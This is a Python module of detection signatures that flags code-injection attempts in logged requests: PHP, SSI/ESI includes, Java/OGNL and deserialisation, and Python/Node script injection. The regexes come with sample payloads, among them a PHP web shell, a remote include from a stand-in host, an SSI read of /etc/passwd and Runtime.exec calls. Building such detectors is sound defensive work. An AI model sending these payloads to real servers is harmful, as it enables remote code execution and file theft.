"""Code of the application's own language, put where it would be run: PHP, Java, Python, JavaScript, includes."""

# ruff: noqa: E501  # a pattern is one thing, and broken up is harder to compare

from __future__ import annotations

from aura_logging.threats.signature import Signature

__all__ = ["CODE"]

CODE = (
    Signature(
        "code_injection.php",
        "code_injection",
        0.9,
        rb"<\?|phpinfo|(?:system|exec|passthru|eval|assert|popen|proc_open|shell_exec|base64_decode|create_function|array_map|array_filter|usort|call_user_func|preg_replace|file_get_contents|file_put_contents|include|require|var_dump|print|print_r|die|exit|md5|fopen|readfile|pcntl_exec|ini_set|str_rot13|gzinflate|chr)"
        rb"[^a-z0-9]{0,3}(?:\(|%28|_once)|o(?::|%3a)[+ ]?[0-9]|include(?:_once)?(?:[ +]|%20)[\"']|a(?::|%3a)[0-9]{1,3}(?::|%3a)(?:\{|%7b)|\$_(?:get|post|request|server|cookie|files|session)|globals\[|allow_url_include|auto_prepend|<%|response\.write|invokefunction|call_user_func|^\(s'|\n\(s'",
        r"<\?(?:php\b|=|\s{0,3}(?:system|exec|passthru|eval|echo|phpinfo|include|print|shell_exec|assert|\$))|\bphpinfo\s?\(|"
        r"(?:\A|[;\"'({&|@=}])\s{0,3}@?(?:system|shell_exec|passthru|popen|proc_open|pcntl_exec|assert|eval|exec|include|require(?!\s?\(\s?[\"'](?:\.{0,2}/|@?[a-z])[\w@./-]{0,80}[\"']\))|array_map|array_filter|usort|create_function|call_user_func\w*|preg_replace|file_get_contents|file_put_contents|readfile|fopen|base64_decode|str_rot13|gzinflate|var_dump|ini_set)\s{0,3}\(\s{0,3}(?:[\"'$/`\\@]|base64_|gzinflate|chr\s?\(|md5\s?\(|phpinfo|file_|system|shell_exec|__\w+__|compile\s?\(|open\s?\(|\d{1,12}\s?[-+*]\s?\d)|(?:\A|[;\"'({&|@=}])\s{0,3}@?(?:print|print_r|die|echo|exit)\s{0,3}\(?\s{0,3}(?:scandir|getenv|glob|md5|phpinfo|system|exec|shell_exec|file_get_contents|passthru|`[^`]{1,80}`)\s?\(|"
        r"<%\s{0,3}(?:eval|execute|response\.|request|@\s?page)|response\.write\s?\(|\binvokefunction\b|call_user_func(?:_array)?(?:&|=|\Z)|\A\(S'|"
        r"\Ainclude(?:_once)?\s[\"'](?:https?|ftp|php|data|/etc):?/|\A[\"']?(?:O|C):[+ ]?\d{1,4}:\"[\w\\]{1,100}\":\d|\Aa:\d{1,3}:\{(?:i:\d|s:\d)|\$_(?:GET|POST|REQUEST|SERVER|COOKIE|FILES|SESSION)\s?\[|\bGLOBALS\[|allow_url_include|auto_prepend_file|\$\{@?(?:print|system|eval|phpinfo|exec|passthru)\s?\(",
        (
            "<?php system($_GET['c']); ?>",
            ";phpinfo();",
            "eval(base64_decode('eA=='))",
            'O:8:"stdClass":0:{}',
            ";system('id')",
            "array_map('system',$x)",
            'include "http://x.example/x.txt"',
            "print_r(scandir('.'))",
            "${@print(md5(1))}",
        ),
        (
            "the system (new)",
            "const { x } = require('./time');",
            "print(copies)",
            "exec (board)",
            "php is a language",
            "please include (a) and (b)",
        ),
    ),
    Signature(
        "code_injection.include",
        "code_injection",
        0.95,
        rb"<!--[^a-z]{0,3}#|%3c!--|<(?:esi|%23)|<!--#",
        r"<!--\s{0,3}\#\s{0,3}(?:exec|include|echo|config|printenv|set|fsize|flastmod|if|goto|onerror|break)\b|<esi:(?:include|inline|debug|vars)",
        ('<!--#exec cmd="ls" -->', '<!--#include virtual="/etc/passwd"-->', '<esi:include src="//x.example/"/>'),
        ("<!-- # of items -->", "<!--# note -->"),
    ),
    Signature(
        "code_injection.java",
        "code_injection",
        0.95,
        rb"java\.|javax\.|getruntime|processbuilder|classloader|ro0ab|aced0005|ognl|#_memberaccess|#context|#req|org\.(?:apache|springframework)\.|@org\.|xwork|com\.sun\.|%\{|!!javax|\.getclass|bcel|scriptengine|fastjson|@type",
        r"java\.(?:lang\.(?:Runtime|ProcessBuilder|System|Class|String\b)|io\.|net\.URL|util\.(?:Scanner|HashMap)|beans)|javax\.(?:script|naming|management)|getRuntime\s?\(|new\s+ProcessBuilder|class(?:\.module|\.class|\[[\"']class[\"']\])?[.\[][\"']?(?:classLoader|protectionDomain)|\A[\"']?rO0AB[\w+/=]{4}|aced0005(?:73|77|74|7[0-9a-f])|"
        r"\#_memberAccess|\#context(?:\[|\.get)|\#(?:req|res|rt|cmd|a|p|_)\s?=\s?(?:@|new|\()|@(?:org|java|com|ognl)\.[\w.$]{1,100}@|com\.sun\.|com\.opensymphony|org\.(?:apache|springframework)\.[\w.]{1,100}(?:\(|\")|\bdefaultClassLoader|ognl\.|!!javax|\"@type\"\s?:|\.getClass\s?\(\s?\)\s?\.",
        (
            "Runtime.getRuntime().exec('id')",
            "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
            "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
        ),
        ("java. beans and coffee", "the Java runtime", "class.name", "javax is old"),
    ),
    Signature(
        "code_injection.call",
        "code_injection",
        0.85,
        rb"[\"'][ ]?\.[ ]?[a-z_0-9]{2,14}\(|var_dump|get_defined|!ruby|popen|(?:^|[^a-z])open\([\"'][/|]|compile\(|cos(?:\n|\\n)|system\n|system\\n|builtins?(?:\n|\\n)|constructor|<cf[a-z]|<jsp:|%x[(\[{]|"
        rb"process\.|io\.popen|kernel\.|system\.diagnostics|_method(?:=|%3d)__|__construct|\$_(?:=|%3d)|aaeaaad(?:/|%2f)|(?:^|[^a-z0-9])gasv|import(?:[ +]|%20){1,3}os|os\.execute|nashorn|thread\)?\.sleep|print[ +(]{0,2}(?:`|[0-9]{3})|pickle|__reduce__|yaml\.load|unserialize|objectinputstream|(?:system|exec|popen|eval)(?:\(|%28)",
        r"[\"']\s?\.\s?@?(?:system|exec|passthru|shell_exec|eval|assert|phpinfo|print|md5|file_get_contents)\s?\(|\A\W{0,6}(?:var_dump|print_r|var_export)\s?\(\s?(?:getenv|get_defined|scandir|glob|\$_)|!ruby/(?:object|hash|struct|regexp|array)|"
        r"\A\W{0,6}(?:os\.popen|IO\.popen|Process\.spawn|Kernel\.(?:exec|spawn|system|open))\s?\(|\A\W{0,3}open\s?\(\s?[\"'][/|]|\A\W{0,3}compile\s?\([\"']import\s|(?:\A|\n)c(?:os|posix|nt|subprocess|__builtin__|builtins)(?:\n|\\n)\w{2,20}(?:\n|\\n)|"
        r"\"constructor\"\s?:\s?\{\s?\"prototype\"|constructor\.prototype|<cf(?:execute|file|include|invoke|object)\s|<jsp:(?:include|useBean|forward)\s|\A\W{0,6}%x[(\[{]\w|\bSystem\.Diagnostics\.Process\b|_method=__construct|\A__construct\Z|\$_=\W{0,4}[\"'(]|\A(?:AAEAAAD/////|gASV[\w+/]{8})|\Aimport\s+os\s{0,2};|\bos\.execute\s?\(\s?[\"']|\bnashorn\.\w|\A\W{0,3}(?:T\()?(?:java\.lang\.)?Thread\)?\.sleep\s?\(\s?\d|\A\W{0,4}print\s?\(?(?:\d{3,12}\s?\*\s?\d|`[a-z])|"
        r"\A\W{0,3}(?:unserialize|pickle\.loads|yaml\.load|new\s+ObjectInputStream)\s?\(|\b(?:system|exec|passthru|shell_exec|popen)\s?\(\s?[\"'](?:id|ls|whoami|cat\s[^\"']{1,60}|uname[^\"']{0,10}|ping\s[^\"']{1,60}|curl\s[^\"']{1,100}|wget\s[^\"']{1,100})[\"']\s?\)[^\w]{0,8}\Z",
        (
            "'.system('id').'",
            "os.popen('id').read()",
            "Thread.sleep(10000)",
            ";print(1234567890*2);",
            "--- !ruby/object:Gem::Requirement",
            '<cfexecute name="cmd">',
            "%x(id)",
            'new System.Diagnostics.Process().Start("x")',
            "AAEAAAD/////AQAAAAAAAAAMAgAA",
        ),
        ("the process. it works", "'quoted'. Printed (new)", "Ruby objects", "a %x format", "call os.popen() and read"),
    ),
    Signature(
        "code_injection.script",
        "code_injection",
        0.9,
        rb"__import__|os\.(?:system|popen|exec|environ)|subprocess|child_process|process\.|__proto__|constructor(?:\.|\[|%5b)|_\$\$nd|require\(|eval\(|exec\(|compile\(|globals\(|io\.popen|kernel\.|open-uri|instance_eval|marshal|cposix|!!python|\.\.__|nashorn|xmldecoder|getattr",
        r"__import__\s?\(|(?:\A|[;\"'({&|=+,}\s])os\.(?:system|popen|exec[lv]\w{0,2}|spawn\w{0,3})\s?\(\s{0,3}[\"']\s{0,3}(?:\w{1,20}|/[\w/]{1,40})(?:\s[-/\w. ]{1,60})?[\"']\s?\)[^\w]{0,10}\Z|subprocess\.(?:Popen|call|check_output|run|getoutput)\s?\(\s?[\[\"'][^)]{0,100}\)[^\w]{0,10}\Z|child_process|process\.(?:mainModule|binding|env\b\W{0,3}\Z)|"
        r"__proto__(?:\]|\.|\[|\"\s?:|=)|\Aprocess\.(?:exit|kill|abort)\s?\(|constructor(?:\.|\[)[\"']?prototype|_\$\$ND_FUNC\$\$_|!!python/|\Acposix|\Acos\n|io\.popen\s?\(|\beval\s?\(\s?(?:compile|__import__|request|atob|unescape|String|name\b|location)|instance_eval|"
        r"\Agetattr\s?\(|globals\s?\(\s?\)\s?\[|\A\W{0,5}require\s?\(\s?[\"'](?:child_process|fs|os|http|net)[\"']|kernel\.(?:exec|system)|\Aexec\s?\(\s?[\"']import|res\.end\s?\(",
        (
            "__import__('os').system('id')",
            "require('child_process').exec('id')",
            "__proto__[admin]=1",
            "constructor.prototype.admin",
            "os.system('id')",
        ),
        (
            "the import of os",
            "process.start",
            "require (two) signatures",
            "prototype constructor",
            "I called os.system('ls -l') in my script and it hung",
        ),
    ),
)
